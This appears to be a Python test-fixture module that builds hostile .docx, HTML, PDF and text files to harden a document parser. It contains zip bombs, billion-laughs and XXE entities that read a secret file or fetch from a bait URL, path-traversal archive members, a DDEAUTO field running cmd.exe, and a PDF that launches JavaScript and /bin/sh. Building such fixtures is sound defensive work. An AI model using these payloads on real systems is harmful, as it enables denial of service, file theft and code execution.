"""Files made to harm: to fill memory, to run for ever, to fetch, to execute. Each is built when it is asked for."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterable

from documents.builders import body, paragraph, replace_member, row, table

#: What every builder may need: a web address on which the test listens, and the path of a file with a secret in it.
Bait = tuple[str, str]
Builder = Callable[[Bait], bytes]

_NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
_MAIN = "word/document.xml"


def word(inside: str | bytes, *, before: str = "") -> bytes:
    """A .docx whose main part is just this body."""
    inner = inside if isinstance(inside, bytes) else inside.encode()
    whole = f"<?xml version='1.0'?>{before}<w:document {_NAMES}><w:body>".encode() + inner + b"</w:body></w:document>"
    return replace_member(_plain(), _MAIN, lambda _: whole)


def _plain() -> bytes:
    return body(paragraph("Tổ chức 02 lớp."))


def with_part(name: str, content: bytes) -> bytes:
    return replace_member(_plain(), name, lambda _: content)


def with_more(*members: tuple[str, bytes]) -> bytes:
    return added(_plain(), *members)


def added(data: bytes, *members: tuple[str, bytes]) -> bytes:
    stream = io.BytesIO(data)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in members:
            package.writestr(name, content)
    return stream.getvalue()


def nested_zip(depth: int) -> bytes:
    """A zip in a zip in a zip, ten at each floor, zeros at the bottom."""
    inner = b"\x00" * 1_000_000
    for floor in range(depth):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
            for number in range(10):
                package.writestr(f"{floor}-{number}.zip", inner)
        inner = stream.getvalue()
    return inner


def overlapping_zip() -> bytes:
    """Five thousand names for the same compressed megabytes: a bomb without nesting."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", b"<Types/>")
        package.writestr(_MAIN, b"\x00" * 15_000_000)
        first = package.getinfo(_MAIN)
        for number in range(5_000):
            again = zipfile.ZipInfo(f"word/{number}.xml")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(again, field, getattr(first, field))
            package.filelist.append(again)
        package._didModify = True
    return stream.getvalue()


def lying_size() -> bytes:
    """The directory says ten bytes, and 200 million come out."""
    data = bytearray(with_part(_MAIN, b" " * 60_000_000))
    at = data.rfind(_MAIN.encode()) - 46 + 24  # the uncompressed size in the central directory
    data[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(data)


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
_SQUARE = f'<!ENTITY a "{"a" * 100_000}">'


def _cells(rows: int, columns: int) -> str:
    cell = "<w:tc><w:p><w:r><w:t>Tổ chức 01 lớp</w:t></w:r></w:p></w:tc>"
    return f"<w:tbl>{f'<w:tr>{cell * columns}</w:tr>' * rows}</w:tbl>"


def _styles(count: int) -> bytes:
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="n{n}"/><w:basedOn w:val="s{n - 1}"/></w:style>'
        for n in range(count)
    )
    return f"<w:styles {_NAMES}>{chain}</w:styles>".encode()


def _chained() -> bytes:
    deep = "<w:p><w:pPr><w:pStyle w:val='s49999'/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>" * 20_000
    return replace_member(word(deep), "word/styles.xml", lambda _: _styles(50_000))


def _numbering() -> bytes:
    """Levels whose pattern names every level a thousand times."""
    levels = "".join(
        f'<w:lvl w:ilvl="{n}"><w:start w:val="999999999"/><w:numFmt w:val="upperRoman"/>'
        f'<w:lvlText w:val="{"%1%2%3%4%5%6%7%8%9" * 1_000}"/></w:lvl>'
        for n in range(9)
    )
    lists = f'<w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum>'
    lists += '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    item = '<w:p><w:pPr><w:numPr><w:ilvl w:val="8"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'
    whole = f"<w:numbering {_NAMES}>{lists}</w:numbering>".encode()
    return replace_member(word(item * 5_000), "word/numbering.xml", lambda _: whole)


def _relationship(kind: str, target: str, *, mode: str = ' TargetMode="External"') -> bytes:
    """A main part that relates to something outside."""
    link = (
        f'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )
    return replace_member(
        _plain(),
        "word/_rels/document.xml.rels",
        lambda xml: xml.replace(b"</Relationships>", link.encode()),
    )


_FIELD = (
    "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe '/c calc'"
    "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>Tổ chức 02 lớp.</w:t></w:r>"
    "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
)

WORD: dict[str, Builder] = {
    "a part of 60 million spaces": lambda _: with_part(_MAIN, b" " * 60_000_000),
    "styles of 60 million spaces": lambda _: with_part("word/styles.xml", b" " * 60_000_000),
    "a size that lies": lambda _: lying_size(),
    "zips in zips": lambda _: with_more(("word/embeddings/a.zip", nested_zip(5))),
    "a zip in a zip, called .docx": lambda _: nested_zip(4),
    "overlapping members": lambda _: overlapping_zip(),
    "12,000 members": lambda _: with_more(*((f"word/media/{n}", b"") for n in range(12_000))),
    "members that climb out": lambda _: with_more(("../../../../tmp/climbed-out", b"x"), ("/etc/climbed-out", b"x")),
    "a billion laughs": lambda _: word(paragraph_of("&l9;"), before=f"<!DOCTYPE x [{_LAUGHS}]>"),
    "quadratic entities": lambda _: word(paragraph_of("&a;" * 20_000), before=f"<!DOCTYPE x [{_SQUARE}]>"),
    "an entity from a file": lambda bait: word(
        paragraph_of("&x;"), before=f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{bait[1]}">]>'
    ),
    "an entity from the web": lambda bait: word(
        paragraph_of("&x;"), before=f'<!DOCTYPE x [<!ENTITY x SYSTEM "{bait[0]}entity">]>'
    ),
    "a DTD from the web": lambda bait: word(paragraph_of("x"), before=f'<!DOCTYPE x SYSTEM "{bait[0]}dtd">'),
    "a parameter entity": lambda bait: word(
        paragraph_of("x"), before=f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{bait[0]}param"> %p;]>'
    ),
    "an XInclude": lambda bait: word(
        paragraph_of("Tổ chức 02 lớp.")
        + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait[1]}" parse="text"/>'
    ),
    "a style sheet for the XML": lambda bait: word(
        paragraph_of("Tổ chức 02 lớp."), before=f'<?xml-stylesheet type="text/xsl" href="{bait[0]}xsl"?>'
    ),
    "a template from the web": lambda bait: _relationship("attachedTemplate", f"{bait[0]}template.dotm"),
    "an object from the web": lambda bait: _relationship("oleObject", f"{bait[0]}object"),
    "styles from the web": lambda bait: _relationship("styles", f"{bait[0]}styles.xml"),
    "a header that climbs out": lambda bait: _relationship("header", f"../../../../..{bait[1]}", mode=""),
    "a field that runs a program": lambda _: word(_FIELD),
    "macros": lambda _: with_more(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"AutoOpen" * 1_000)),
    "100,000 empty paragraphs": lambda _: word("<w:p/>" * 100_000),
    "a million empty paragraphs": lambda _: word("<w:p/>" * 1_000_000),
    "a table of 10,000 rows": lambda _: word(_cells(10_000, 4)),
    "a table of 2,000 columns": lambda _: word(_cells(2, 2_000)),
    "a paragraph of 5 MB": lambda _: word(paragraph_of("Tổ chức 02 lớp, " * 300_000)),
    "a word of 5 MB": lambda _: word(paragraph_of("a" * 5_000_000)),
    "a paragraph of 200,000 runs": lambda _: word(f"<w:p>{'<w:r><w:t>a </w:t></w:r>' * 200_000}</w:p>"),
    "wrappers 5,000 deep": lambda _: word(
        "<w:sdt><w:sdtContent>" * 5_000 + paragraph_of("x") + "</w:sdtContent></w:sdt>" * 5_000
    ),
    "tables 300 deep": lambda _: word(
        "<w:tbl><w:tr><w:tc>" * 300 + paragraph_of("x") + "</w:tc></w:tr></w:tbl>" * 300
    ),
    "text boxes 200 deep": lambda _: word(
        "<w:p><w:r><w:pict><w:txbxContent>" * 60 + paragraph_of("x") + "</w:txbxContent></w:pict></w:r></w:p>" * 60
    ),
    "cells that span for ever": lambda _: body(
        table(*(row("a", "b").replace("<w:tc>", '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>'),) * 500)
    ),
    "a chain of 50,000 styles": lambda _: _chained(),
    "numbers that fill pages": lambda _: _numbering(),
    "an attribute of 9 MB": lambda _: word(f'<w:p w:rsid="{"a" * 9_000_000}">' + "<w:r><w:t>a</w:t></w:r></w:p>"),
    "200,000 comments": lambda _: word("<!-- a -->" * 200_000 + paragraph_of("x")),
    "200,000 attributes": lambda _: word("<w:p " + " ".join(f"w:a{n}='1'" for n in range(200_000)) + "/>"),
    "a head of 60 million spaces": lambda _: added(
        _relationship("header", "header1.xml", mode=""), ("word/header1.xml", b" " * 60_000_000)
    ),
}  # fmt: skip


def paragraph_of(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def page(inside: str, *, before: str = "<!DOCTYPE html>") -> bytes:
    return f"{before}<html><head><title>Tin</title></head><body>{inside}</body></html>".encode()


_ITEM = "<tr><td>Tổ chức 01 lớp</td><td>quý III</td></tr>"

HTML: dict[str, Builder] = {
    "100,000 open divs": lambda _: page("<div>" * 100_000 + "x"),
    "100,000 nested lists": lambda _: page("<ul><li>" * 50_000 + "x"),
    "tables 1,000 deep": lambda _: page("<table><tr><td>" * 1_000 + "x"),
    "100,000 open links": lambda _: page("<a href='x'>" * 100_000 + "x"),
    "mixed-up formatting": lambda _: page("<b><i><u><p>" * 20_000 + "x" + "</b></i>" * 20_000),
    "a table of 10,000 rows": lambda _: page(f"<table>{_ITEM * 10_000}</table>"),
    "a table of 10,000 rows on a page with menus": lambda _: page(
        f"<nav><a href='x'>y</a></nav><article><table>{_ITEM * 10_000}</table></article>"
    ),
    "cells that span for ever": lambda _: page(
        f"<table>{'<tr><td colspan=999999999 rowspan=999999999>a</td></tr>' * 500}</table>"
    ),
    "a million line breaks": lambda _: page("<br>" * 290_000 + "x"),
    "a paragraph of 5 MB": lambda _: page(f"<p>{'Tổ chức 02 lớp, ' * 300_000}</p>"),
    "a word of 5 MB": lambda _: page(f"<p>{'a' * 5_000_000}</p>"),
    "a title of 5 MB": lambda _: page("x").replace(b"Tin", b"Tin " * 1_250_000),
    "5 MB of entities": lambda _: page(f"<p>{'&amp;' * 1_000_000}</p>"),
    "entities of their own": lambda _: page("<p>&l9;</p>", before=f"<!DOCTYPE html [{_LAUGHS}]>"),
    "an entity from a file": lambda bait: page(
        "<p>&x; Tổ chức 02 lớp.</p>", before=f'<!DOCTYPE html [<!ENTITY x SYSTEM "file://{bait[1]}">]>'
    ),
    "pictures, frames, scripts, styles from the web": lambda bait: page(
        f"<script src='{bait[0]}a.js'>fetch('{bait[0]}b')</script><link rel=stylesheet href='{bait[0]}c.css'>"
        f"<img src='{bait[0]}d.png' onerror='x()'><iframe src='{bait[0]}e'></iframe><object data='{bait[0]}f'></object>"
        f"<meta http-equiv=refresh content='0;url={bait[0]}g'><base href='{bait[0]}'><p>Tổ chức 02 lớp.</p>"
        f"<style>@import url({bait[0]}h)</style><svg><use href='{bait[0]}i'/></svg><video src='{bait[0]}k'></video>"
    ),
    "a page with menus and much text": lambda _: page(
        "<nav>x</nav>" + "<p>Công đoàn tổ chức 02 lớp ngày 15/9.</p>" * 20_000
    ),
    "a page of dates": lambda _: page("<nav>x</nav><article>" + "<p>12/12/2025 2025-12-12</p>" * 3_000 + "</article>"),
    "a picture of 8 MB in the page": lambda _: page(f"<img src='data:image/png;base64,{'A' * 8_000_000}'><p>x</p>"),
    "an attribute of 9 MB": lambda _: page(f"<p class='{'menu ' * 1_800_000}'>x</p>"),
    "200,000 comments": lambda _: page("<!-- a -->" * 200_000 + "x"),
    "comments that never close": lambda _: page("<!-- " * 200_000 + "x"),
    "a declaration that never closes": lambda _: b"<?xml " + b"version " * 500_000 + page("x"),
    "200,000 metas": lambda _: page("x").replace(b"<head>", b"<head>" + b"<meta charset=" * 200_000),
    "json that never closes": lambda _: page(
        f"<script type='application/ld+json'>{'[' * 100_000}</script><nav>x</nav><p>Tổ chức 02 lớp.</p>"
    ),
    "a wrong encoding": lambda _: page("x").replace(b"<head>", b"<head><meta charset=zlib_codec>"),
    "class names of menus": lambda _: page("<div class='menu-nav--banner___x'>a</div>" * 30_000),
}


def pdf(objects: Iterable[bytes], *, root: int = 1, after: bytes = b"") -> bytes:
    """A file of these objects, numbered from 1."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(places) + 1, root, after, start,
    )  # fmt: skip
    return bytes(out)


def stream(content: bytes, *, head: bytes = b"", packed: bool = False) -> bytes:
    if packed:
        content = zlib.compress(content, 9)
        head += b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), head, content)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_KIDS = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>"
_TEXT = b"BT /F1 12 Tf 60 700 Td (To chuc 02 lop boi duong nghiep vu cho can bo.) Tj ET"


def one_page(
    content: bytes = _TEXT, *, catalog: bytes = _CATALOG, page: bytes = b"", packed: bool = False,
    more: tuple[bytes, ...] = (), head: bytes = b"",
) -> bytes:  # fmt: skip
    """A file with one page; `more` are objects from number 6 on."""
    leaf = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> %s >>" % page
    )
    return pdf([catalog, _KIDS, leaf, stream(content, head=head, packed=packed), _FONT, *more])


def _rules(count: int) -> bytes:
    """Crossing lines: a net with so many of them each way."""
    step = 500 / count
    lines = [f"{40 + n * step:.2f} 40 m {40 + n * step:.2f} 800 l S" for n in range(count)]
    lines += [f"40 {40 + n * step:.2f} m 560 {40 + n * step:.2f} l S" for n in range(count)]
    return "\n".join(lines).encode() + b"\n" + _TEXT


def _many_pages(count: int, content: bytes) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(count))
    leaf = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>"
    )
    pages = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids)
    return pdf([_CATALOG, pages, stream(content), _FONT, *([leaf] * count)])


def _tower(depth: int) -> bytes:
    """Page trees in page trees."""
    floors = [b"<< /Type /Pages /Count 1 /Kids [%d 0 R] /Parent %d 0 R >>" % (n + 3, n + 1) for n in range(depth)]
    leaf = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth + 1)
    return pdf([_CATALOG, *floors, leaf])


_BIG_IMAGE = stream(
    b"\x00" * 1_000_000,
    head=b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB",
    packed=True,
)
_LOOP_FORM = stream(
    b"/X Do /X Do " + _TEXT,
    head=b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X 6 0 R >> >>",
)
_SCRIPT = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL('%s')) >> >>"

PDF: dict[str, Builder] = {
    "100,000 pages that are not there": lambda _: one_page().replace(b"/Count 1", b"/Count 100000"),
    "100,000 pages": lambda _: _many_pages(100_000, b""),
    "2,000 pages of text": lambda _: _many_pages(2_000, _TEXT),
    "a page tree that is its own child": lambda _: one_page().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    "a page that is its own parent": lambda _: one_page().replace(b"/Parent 2 0 R", b"/Parent 3 0 R"),
    "a page tree 20,000 deep": lambda _: _tower(20_000),
    "a cross-reference that goes round": lambda _: one_page().replace(
        b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % one_page().rfind(b"xref\n0")
    ),
    "a length that points to itself": lambda _: one_page().replace(b"/Length 71", b"/Length 4 0 R"),
    "no cross-reference": lambda _: one_page().partition(b"xref\n0")[0],
    "arrays 100,000 deep": lambda _: one_page(page=b"/A " + b"[" * 100_000),
    "dictionaries 100,000 deep": lambda _: one_page(page=b"/A " + b"<</B" * 100_000),
    "content that unpacks to 60 MB": lambda _: one_page(b" " * 60_000_000, packed=True),
    "content of 10 million operators": lambda _: one_page(b"q " * 10_000_000, packed=True),
    "content packed a hundred times": lambda _: one_page(b"x", head=b"/Filter [" + b"/ASCIIHexDecode " * 100 + b"]"),
    "a form that draws itself": lambda _: one_page(b"/X Do", more=(_LOOP_FORM,)),
    "a picture of 30 gigabytes": lambda _: one_page(b"600 0 0 800 0 0 cm /X Do", more=(_BIG_IMAGE,)),
    "a picture of 30 gigabytes under text": lambda _: one_page(
        b"q 600 0 0 800 0 0 cm /X Do Q " + _TEXT * 10, more=(_BIG_IMAGE,)
    ),
    "a page wider than the world": lambda _: one_page().replace(b"595 842", b"99999999999 99999999999"),
    "a page turned inside out": lambda _: one_page().replace(b"0 0 595 842", b"595 842 0 0"),
    "script, launch and links": lambda bait: one_page(
        catalog=_SCRIPT % bait[0].encode(),
        page=b"/AA << /O << /S /Launch /F (/bin/sh) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (%s) >> >>]" % bait[0].encode(),
    ),
    "content from another file": lambda bait: one_page(head=b"/F << /FS /URL /F (%s) >>" % bait[0].encode()),
    "a net of 2 x 1,000 rules": lambda _: one_page(_rules(1_000)),
    "a net of 2 x 2,400 rules": lambda _: one_page(_rules(2_400)),
    "60 pages of nets": lambda _: _many_pages(60, _rules(300)),
    "text of 5 MB on a page": lambda _: one_page(_TEXT + b" 0 -1 Td (To chuc lop) Tj" * 200_000, packed=True),
    "500,000 letters one by one": lambda _: one_page(
        b"BT /F1 12 Tf 60 700 Td " + b"(a) Tj " * 500_000 + b"ET", packed=True
    ),
}

TEXT: dict[str, Builder] = {
    "a line of 5 MB": lambda _: ("Tổ chức 02 lớp, " * 300_000).encode(),
    "a word of 5 MB": lambda _: b"a" * 5_000_000,
    "49 MB of letters": lambda _: b"a" * 49_000_000,
    "49 MB of line ends": lambda _: b"\n" * 49_000_000,
    "49 MB of lines": lambda _: b"a\n" * 24_500_000,
    "40 MB of words": lambda _: "Tổ chức 02 lớp. ".encode() * 2_000_000,
    "marks without letters": lambda _: ("\u0301" * 500_000).encode(),
    "letters with a thousand marks": lambda _: (("a" + "\u0323\u0302" * 500) * 500).encode(),
    "letters that grow": lambda _: ("\ufdfa" * 300_000).encode(),
    "a million line ends of Mac": lambda _: b"a\r" * 500_000,
    "control characters": lambda _: b"\x1b[31m" * 200_000,
    "bytes that are no text": lambda _: bytes(range(256)) * 4_000,
    "UTF-16 cut in the middle": lambda _: b"\xff\xfe" + "Tổ chức".encode("utf-16-le")[:-1],
    "text turned round": lambda _: ("\u202e" * 10_000 + "Tổ chức 02 lớp.").encode(),
}
